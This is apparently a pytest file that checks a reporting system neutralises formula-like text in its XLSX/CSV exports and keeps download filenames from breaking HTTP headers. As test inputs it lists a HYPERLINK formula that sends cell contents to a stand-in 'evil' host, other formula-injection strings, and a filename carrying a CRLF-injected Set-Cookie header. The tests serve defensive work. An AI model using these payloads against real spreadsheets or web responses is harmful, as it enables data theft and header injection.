"""§5 of the hardening issue, exports: a text cell that starts like a formula (`=`, `+`,
`-`, `@`, tab, CR) is neutralised in every XLSX and CSV the system writes (OWASP CSV
injection), by the one kernel helper."""

from __future__ import annotations

import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from backstop.exports import FORMULA_START, XLSX, attachment, safe_cell, safe_row, xlsx_response
from services.assistance.reports import workbook_bytes

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_other_values_pass_unchanged() -> None:
    assert safe_row(["户主", "441881101", -5, 1.5, None, "a=b"]) == [
        "户主", "441881101", -5, 1.5, None, "a=b"]  # fmt: skip


def test_the_quarterly_report_workbook_holds_no_formula() -> None:
    town = {
        "town_code": "441881101",
        "inclusions": {"by_factor": {"=evil()": 1}},
        "eliminations": {
            "reasons": [{"method": "natural", "reason": r, "count": 1} for r in HOSTILE]
        },
    }
    report = {"quarter": "=2026Q4", "start": "2026-10-01", "end": "2026-12-31",
              "status": "open", "computed_at": "-x", "closed_by": "@admin", "towns": [town],
              "totals": {}}  # fmt: skip
    workbook = load_workbook(io.BytesIO(workbook_bytes(report)))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(
        cell.data_type != "f" for s in workbook.worksheets for r in s.iter_rows() for cell in r
    )
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    for text in ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "=evil()", "=2026Q4", "@admin"]:
        assert "'" + text in texts


def test_a_download_name_cannot_break_the_header() -> None:
    """RFC 6266: the ASCII fallback keeps only safe characters; the UTF-8 name is
    percent-encoded whole, so no quote, semicolon or line break reaches the header."""
    hostile = '整改清单"; x=1\r\nSet-Cookie: a=b.xlsx'
    header = attachment(hostile)
    fallback, encoded = header.removeprefix('attachment; filename="').split('"; filename*=')
    assert fallback == "_______x_1__Set-Cookie__a_b.xlsx"
    assert encoded.startswith("UTF-8''") and unquote(encoded.removeprefix("UTF-8''")) == hostile
    assert not any(c in encoded for c in '"; \r\n')


def test_an_xlsx_download_names_its_file_twice() -> None:
    r = xlsx_response(b"PK", name="整改清单_441881101", ascii_name="rectification-441881101")
    assert r.media_type == XLSX and r.body == b"PK"
    assert r.headers["content-disposition"] == (
        'attachment; filename="rectification-441881101.xlsx"; '
        "filename*=UTF-8''%E6%95%B4%E6%94%B9%E6%B8%85%E5%8D%95_441881101.xlsx"
    )
